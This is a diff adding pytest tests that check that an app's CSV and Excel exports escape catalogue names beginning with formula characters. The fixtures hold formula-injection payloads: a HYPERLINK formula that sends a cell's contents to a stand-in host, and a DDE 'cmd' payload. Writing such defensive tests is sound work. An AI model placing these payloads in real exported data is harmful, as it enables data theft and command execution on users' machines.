@@ -577,3 +577,59 @@ def test_the_range_task_called_directly_records_a_backfill(known):
         "2025-11-01",
         "2025-11-14",
     )
+
+
+class TestFormulaInjection:
+    """Issue 14, item 5: a catalogue name that looks like a formula reaches every file as text."""
+
+    HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"Xem")'
+
+    @pytest.fixture
+    def hostile_names(self, known, unit_a):
+        from procedures.models import Field, Procedure
+
+        Procedure.objects.filter(unit=unit_a).update(name_vi=self.HOSTILE)
+        Field.objects.update(name_vi="@SUM(1+1)")
+        unit_a.name_vi = "+cmd|' /C calc'!A0"
+        unit_a.save()
+
+    @pytest.mark.parametrize("group_by", ["unit", "field", "procedure"])
+    def test_the_csv_escapes_every_text_cell_a_spreadsheet_would_run(
+        self, client, hostile_names, office_staff, group_by
+    ):
+        response = page(client, office_staff, **NOVEMBER, export="csv", group_by=group_by)
+        lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        names = [line[2] for line in lines[1:-1]]
+        assert names and all(not name.startswith(("=", "+", "-", "@")) for name in names)
+        expected = {
+            "unit": "'+cmd|' /C calc'!A0",
+            "field": "'@SUM(1+1)",
+            "procedure": "'" + self.HOSTILE,
+        }[group_by]
+        assert expected in names
+
+    @pytest.mark.parametrize("group_by", ["unit", "field", "procedure"])
+    def test_the_workbook_has_no_formula_and_shows_the_name_as_text(
+        self, client, hostile_names, office_staff, group_by
+    ):
+        response = page(client, office_staff, **NOVEMBER, export="xlsx", group_by=group_by)
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+        hostile = {"unit": "+cmd|", "field": "@SUM(1+1)", "procedure": self.HOSTILE}[group_by]
+        named = [cell for cell in cells if isinstance(cell.value, str) and hostile in cell.value]
+        assert named and all(cell.data_type == "s" for cell in named)
+
+
+def test_the_spreadsheet_helpers_escape_text_only():
+    from openpyxl import Workbook
+
+    from config.spreadsheets import csv_text, neutralise_workbook
+
+    assert csv_text([["=1+1", "-2", "\tx", "\rx", "@a", "ok", -3, 4.5]]) == "'=1+1,'-2,'\tx,\"'\rx\",'@a,ok,-3,4.5\r\n"
+    workbook = Workbook()
+    workbook.active.append(["=1+1", "plain", -3])
+    neutralise_workbook(workbook)
+    first, plain, number = workbook.active[1]
+    assert (first.data_type, first.value, first.quotePrefix) == ("s", "=1+1", True)
+    assert (plain.quotePrefix, number.data_type, number.value) == (False, "n", -3)
